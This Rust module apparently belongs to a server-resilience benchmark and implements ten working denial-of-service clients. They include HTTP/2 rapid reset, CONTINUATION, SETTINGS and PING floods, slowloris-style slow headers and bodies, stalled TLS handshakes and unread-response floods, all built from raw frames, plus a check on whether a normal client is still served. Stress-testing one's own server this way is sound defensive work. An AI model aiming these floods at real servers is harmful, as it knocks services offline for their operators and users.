//! Clients that mean harm: what each sends, by hand, to a server that must bear it.

use std::future::ready;
use std::io::ErrorKind;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Result, ensure};
use clap::ValueEnum;
use futures::{StreamExt, stream};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, interval, sleep_until, timeout};

use crate::histogram::Histogram;

/// What is done to a server.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Connections that have said who they are, over HTTP/2, and ask nothing.
    Idle,
    /// TLS handshakes that begin and never go on.
    Handshakes,
    /// Heads of HTTP/2 requests, a byte at a time.
    SlowHeaders,
    /// Heads of HTTP/1.1 requests, a byte at a time.
    SlowHeadersHttp1,
    /// Sixteen requests on each connection, whose bodies come a byte at a time.
    SlowBody,
    /// Requests that are reset as soon as they are sent.
    RapidReset,
    /// Heads that go on in CONTINUATION frames without an end.
    Continuation,
    /// SETTINGS without end, their ACKs unread.
    Settings,
    /// PINGs without end, their answers unread.
    Ping,
    /// Requests whose answers, 64 KiB each, are not read, through windows as wide as can be.
    UnreadAnswers,
}

/// What became of an attack.
#[derive(Debug, Default)]
pub struct Outcome {
    /// Connections that are still open at its end, or of a flood, those that are made at a time.
    pub connections: usize,
    /// Bytes that were sent.
    pub sent: u64,
    /// Connections that the server ended.
    pub cut: u64,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Connections that a flood makes at a time.
const FLOOD: usize = 32;
/// Connections that are made at a time.
const AT_ONCE: usize = 128;
/// Requests on each connection with a slow body.
const SLOW_BODIES: u32 = 16;
/// Requests on each connection whose answers are not read.
const UNREAD: u32 = 512;
/// A slow client sends again after this.
const STEP: Duration = Duration::from_millis(250);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

impl Attack {
    /// All of them, in the order of the table.
    pub const ALL: [Self; 10] = [
        Self::Idle,
        Self::Handshakes,
        Self::SlowHeaders,
        Self::SlowHeadersHttp1,
        Self::SlowBody,
        Self::RapidReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::UnreadAnswers,
    ];

    /// What it is, for the table.
    #[must_use]
    pub fn title(self) -> &'static str {
        match self {
            Self::Idle => "idle connections",
            Self::Handshakes => "handshakes never finished",
            Self::SlowHeaders => "slow headers, HTTP/2",
            Self::SlowHeadersHttp1 => "slow headers, HTTP/1.1",
            Self::SlowBody => "16 slow bodies each",
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION flood",
            Self::Settings => "SETTINGS flood",
            Self::Ping => "PING flood",
            Self::UnreadAnswers => "answers not read",
        }
    }

    /// Whether the server speaks TLS.
    #[must_use]
    pub fn over_tls(self) -> bool {
        self == Self::Handshakes
    }

    /// Whether it sends as fast as it can, over few connections that are made anew when the server ends them.
    #[must_use]
    pub fn is_flood(self) -> bool {
        matches!(self, Self::RapidReset | Self::Continuation | Self::Settings | Self::Ping | Self::UnreadAnswers)
    }

    /// Does it to the server at `address` until `end`, over so many connections unless it is a flood.
    ///
    /// # Errors
    /// The connections cannot be made.
    pub async fn run(self, address: SocketAddr, connections: usize, end: Instant) -> Result<Outcome> {
        if self.is_flood() { self.flood(address, end).await } else { self.hold(address, connections, end).await }
    }

    async fn hold(self, address: SocketAddr, connections: usize, end: Instant) -> Result<Outcome> {
        let opening: Arc<[u8]> = self.opening().into();
        let opened = stream::iter(0..connections).map(|_| open(address, Arc::clone(&opening)));
        let opened = opened.buffer_unordered(AT_ONCE).filter_map(|socket| ready(socket.ok()));
        let mut sockets: Vec<TcpStream> = opened.collect().await;
        ensure!(!sockets.is_empty(), "no connection was made");
        let mut outcome = Outcome { sent: (opening.len() * sockets.len()) as u64, ..Outcome::default() };
        let (mut step, mut steps) = (interval(STEP), 0);
        while Instant::now() < end {
            step.tick().await;
            let more = self.trickle(steps);
            steps += 1;
            sockets.retain(|socket| {
                let lost = |error: std::io::Error| error.kind() != ErrorKind::WouldBlock;
                if is_ended(socket) || (!more.is_empty() && socket.try_write(&more).is_err_and(lost)) {
                    outcome.cut += 1;
                    return false;
                }
                outcome.sent += more.len() as u64;
                true
            });
        }
        outcome.connections = sockets.len();
        Ok(outcome)
    }

    async fn flood(self, address: SocketAddr, end: Instant) -> Result<Outcome> {
        let (sent, cut) = (Arc::<AtomicU64>::default(), Arc::<AtomicU64>::default());
        let mut tasks = JoinSet::new();
        for _ in 0..FLOOD {
            let (sent, cut) = (Arc::clone(&sent), Arc::clone(&cut));
            tasks.spawn(async move {
                while Instant::now() < end {
                    let Ok(socket) = TcpStream::connect(address).await else { continue };
                    tokio::select! {
                        () = self.pour(socket, &sent) => cut.fetch_add(1, Ordering::Relaxed),
                        () = sleep_until(end) => return,
                    };
                }
            });
        }
        while tasks.join_next().await.is_some() {}
        let (sent, cut) = (sent.load(Ordering::Relaxed), cut.load(Ordering::Relaxed));
        Ok(Outcome { connections: FLOOD, sent, cut })
    }

    /// Sends until the server ends the connection.
    async fn pour(self, socket: TcpStream, sent: &AtomicU64) {
        let reads = self == Self::RapidReset;
        let (mut read, mut write) = socket.into_split();
        let writing = async {
            let mut bytes = self.opening();
            let mut stream = 1;
            while write.write_all(&bytes).await.is_ok() {
                sent.fetch_add(bytes.len() as u64, Ordering::Relaxed);
                bytes = self.more(&mut stream);
                if bytes.is_empty() {
                    std::future::pending::<()>().await;
                }
            }
        };
        let reading = async {
            let mut buffer = vec![0; 16 << 10];
            while reads && matches!(read.read(&mut buffer).await, Ok(1..)) {}
            if !reads {
                // The end of the connection shows in the writes.
                std::future::pending::<()>().await;
            }
        };
        tokio::select! {
            () = writing => {}
            () = reading => {}
        }
    }

    /// What a connection begins with.
    fn opening(self) -> Vec<u8> {
        let begun = || [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        match self {
            // A handshake message of 512 bytes, of which these are the first.
            Self::Handshakes => b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(),
            Self::SlowHeadersHttp1 => b"POST /bench.Echo/Unary HTTP/1.1\r\nhost: x\r\nx-slow: ".to_vec(),
            // The last field has a hundred bytes to come.
            Self::SlowHeaders => [begun(), frame(HEADERS, 0, 1, &[&head()[..], b"\0\x06x-slow\x64"].concat())].concat(),
            Self::Continuation => [begun(), frame(HEADERS, 0, 1, &head())].concat(),
            Self::SlowBody => {
                let streams = (0..SLOW_BODIES).flat_map(|i| frame(HEADERS, END_HEADERS, 2 * i + 1, &head()));
                begun().into_iter().chain(streams).collect()
            }
            Self::UnreadAnswers => {
                // SETTINGS_INITIAL_WINDOW_SIZE, and the connection's window: both 2^31-1.
                let widest = [0, 4, 0x7f, 0xff, 0xff, 0xff];
                let wide = frame(WINDOW_UPDATE, 0, 0, &(0x7fff_ffff_u32 - 65_535).to_be_bytes());
                [PREFACE, &frame(SETTINGS, 0, 0, &widest), &wide].concat()
            }
            Self::Idle | Self::RapidReset | Self::Settings | Self::Ping => begun(),
        }
    }

    /// What a slow client sends next.
    fn trickle(self, step: u32) -> Vec<u8> {
        match self {
            Self::SlowHeaders => frame(CONTINUATION, 0, 1, b"x"),
            Self::SlowHeadersHttp1 => b"x".to_vec(),
            Self::SlowBody => frame(0, 0, 2 * (step % SLOW_BODIES) + 1, &[0]),
            _ => Vec::new(),
        }
    }

    /// What a flood sends next; nothing: it is enough. `next`: the stream that comes next.
    fn more(self, next: &mut u32) -> Vec<u8> {
        match self {
            Self::RapidReset => (0..64)
                .flat_map(|_| [frame(HEADERS, END_HEADERS, stream(next), &head()), reset(*next - 2)].concat())
                .collect(),
            Self::Continuation => frame(CONTINUATION, 0, 1, &field("x-more", &"x".repeat(16_000))),
            Self::Settings => (0..64).flat_map(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).collect(),
            Self::Ping => (0..64).flat_map(|_| frame(PING, 0, 0, &[7; 8])).collect(),
            Self::UnreadAnswers if *next > 2 * UNREAD => Vec::new(),
            Self::UnreadAnswers => {
                let number = stream(next);
                // One gRPC message, which is sent back.
                let message = [&[0, 0, 0, 0xff, 0xfb][..], &[7; 65_531]].concat();
                let last = message.len().div_ceil(16_384) - 1;
                let data = message.chunks(16_384).enumerate();
                let data = data.flat_map(|(i, part)| frame(0, if i == last { END_STREAM } else { 0 }, number, part));
                frame(HEADERS, END_HEADERS, number, &head()).into_iter().chain(data).collect()
            }
            _ => Vec::new(),
        }
    }
}

async fn open(address: SocketAddr, opening: Arc<[u8]>) -> std::io::Result<TcpStream> {
    let mut socket = TcpStream::connect(address).await?;
    socket.set_nodelay(true)?;
    socket.write_all(&opening).await?;
    Ok(socket)
}

/// Calls one after the other, until `end`: whether a good client is served meanwhile. Returns how long each took; one that fails, or takes
/// five seconds, ends this.
///
/// # Errors
/// A call failed.
pub async fn served(mut call: impl AsyncFnMut() -> Result<()>, end: Instant) -> Result<Histogram> {
    let mut took = Histogram::default();
    while Instant::now() < end {
        let begun = Instant::now();
        timeout(Duration::from_secs(5), call()).await??;
        took.record(begun.elapsed());
    }
    Ok(took)
}

/// Whether the server has closed it. What it said meanwhile stays unread.
fn is_ended(socket: &TcpStream) -> bool {
    let mut byte = [0];
    let mut peeked = tokio::io::ReadBuf::new(&mut byte);
    match socket.poll_peek(&mut std::task::Context::from_waker(futures::task::noop_waker_ref()), &mut peeked) {
        std::task::Poll::Ready(Ok(read)) => read == 0,
        std::task::Poll::Ready(Err(_)) => true,
        std::task::Poll::Pending => false,
    }
}

/// The stream that comes next.
fn stream(next: &mut u32) -> u32 {
    *next += 2;
    *next - 2
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// POST http /bench.Echo/Unary, of gRPC.
fn head() -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(":path", "/bench.Echo/Unary"), (":authority", "x"), ("content-type", "application/grpc")] {
        block.extend(field(name, value));
    }
    block.extend(field("te", "trailers"));
    block
}

/// A header, literally and without indexing (RFC 7541 section 6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut text = vec![0];
    for part in [name, value] {
        let mut length = part.len();
        if length < 127 {
            text.push(u8::try_from(length).unwrap_or(0));
        } else {
            text.push(127);
            length -= 127;
            while length >= 128 {
                text.push(u8::try_from(length % 128).unwrap_or(0) | 128);
                length /= 128;
            }
            text.push(u8::try_from(length).unwrap_or(0));
        }
        text.extend_from_slice(part.as_bytes());
    }
    text
}
